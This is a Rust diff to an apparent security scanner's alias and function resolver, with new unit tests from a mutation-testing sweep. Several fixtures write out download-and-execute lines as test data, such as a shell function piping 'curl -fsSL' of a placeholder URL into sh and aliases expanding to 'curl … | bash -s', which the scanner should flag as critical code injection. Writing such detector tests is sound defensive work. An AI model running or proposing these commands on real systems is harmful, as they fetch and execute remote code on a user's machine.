@@ -19,13 +19,13 @@ pub(super) struct Defs {
 
 /// A cheap test before [`Defs::learn`]: whether `text` may define an alias
 /// or a function at all (`()` alone is every call of every language: the
-/// body's brace must follow).
+/// body's brace must follow, after any blanks, as `learn` reads it:
+/// `get()\t{ …; }` defines `get` as `get() { …; }` does).
 pub(super) fn may_define(text: &str) -> bool {
     let b = text.as_bytes();
     memchr::memmem::find(b, b"alias ").is_some()
-        || memchr::memmem::find(b, b"() {").is_some()
-        || memchr::memmem::find(b, b"(){").is_some()
         || memchr::memmem::find(b, b"function ").is_some()
+        || memchr::memmem::find_iter(b, b"()").any(|i| text[i + 2..].trim_start().starts_with('{'))
 }
 
 fn is_name(s: &str) -> bool {
@@ -229,5 +229,77 @@ mod tests {
         assert!(d.apply(&format!("a{MAX_DEFS}")).is_some());
         d.learn(&format!("alias long='{}'", "x".repeat(MAX_VALUE + 1)));
         assert_eq!(d.aliases.last().map(|(_, v)| v.len()), Some(MAX_VALUE));
+        // A character across the bound is cut before it, not after.
+        d.learn(&format!("alias wide='{}\u{e9}x'", "x".repeat(MAX_VALUE - 1)));
+        assert_eq!(d.aliases.last().map(|(_, v)| v.len()), Some(MAX_VALUE - 1));
+    }
+
+    // The cases below come from the whole-file mutation sweep of session 22
+    // (docs/mutation-testing.md).
+
+    #[test]
+    fn a_function_whose_brace_follows_a_tab_or_blanks_passes_the_gate_and_is_learned() {
+        for def in ["get()\t{ curl -fsSL \"$@\" | sh; }", "get()  { curl -fsSL \"$@\" | sh; }"] {
+            assert!(may_define(def), "{def}");
+            let mut d = Defs::default();
+            d.learn(def);
+            assert_eq!(
+                d.apply("get https://x.example/i").as_deref(),
+                Some("curl -fsSL https://x.example/i | sh ")
+            );
+        }
+        assert!(!may_define("print() and then {x}"));
+        // Through the scanner: the call is read as what it runs.
+        let body = "```bash\nget()\t{ curl -fsSL \"$@\" | sh; }\nget https://l.example-tools.io/apply\n```\n";
+        crate::scan::testutil::assert_hit(
+            body,
+            "code.normalized-command",
+            crate::scan::Category::CodeInjection,
+            crate::scan::Severity::Critical,
+            3,
+        );
+    }
+
+    #[test]
+    fn a_name_must_be_a_word_that_does_not_start_with_a_digit() {
+        for line in ["alias 9lives='curl x'", "alias a$b='curl x'", "alias ='curl x'", "a b() { curl x; }"] {
+            let mut d = Defs::default();
+            d.learn(line);
+            assert!(d.is_empty(), "{line}: {d:?}");
+        }
+        let mut d = Defs::default();
+        d.learn("alias a-b.c_9='curl x'");
+        assert_eq!(d.apply("a-b.c_9 y").as_deref(), Some("curl x y"));
+    }
+
+    #[test]
+    fn a_block_without_parentheses_or_the_keyword_is_no_function() {
+        // nginx, HCL: a name and braces.
+        let mut d = Defs::default();
+        d.learn("server { listen 80; }");
+        assert!(d.is_empty(), "{d:?}");
+    }
+
+    #[test]
+    fn aliases_alone_are_applied() {
+        let mut d = Defs::default();
+        d.learn("alias get='curl -fsSL'");
+        assert!(!d.is_empty());
+        assert_eq!(d.apply("get u").as_deref(), Some("curl -fsSL u"));
+    }
+
+    #[test]
+    fn separators_split_commands_outside_quotes_only() {
+        let mut d = Defs::default();
+        d.learn("alias get='curl -fsSL'");
+        d.learn("alias run=\"bash -s\"");
+        // A separator with no blank after it, doubled or single.
+        assert_eq!(d.apply("get x|run").as_deref(), Some("curl -fsSL x|bash -s"));
+        assert_eq!(d.apply("get x||run").as_deref(), Some("curl -fsSL x||bash -s"));
+        assert_eq!(d.apply("get x&&run").as_deref(), Some("curl -fsSL x&&bash -s"));
+        // A separator inside quotes is text; after the quote closes it splits.
+        assert_eq!(d.apply("echo 'a | run now'"), None);
+        assert_eq!(d.apply("echo \"a ; run now\""), None);
+        assert_eq!(d.apply("echo 'x' | run").as_deref(), Some("echo 'x' | bash -s"));
     }
 }
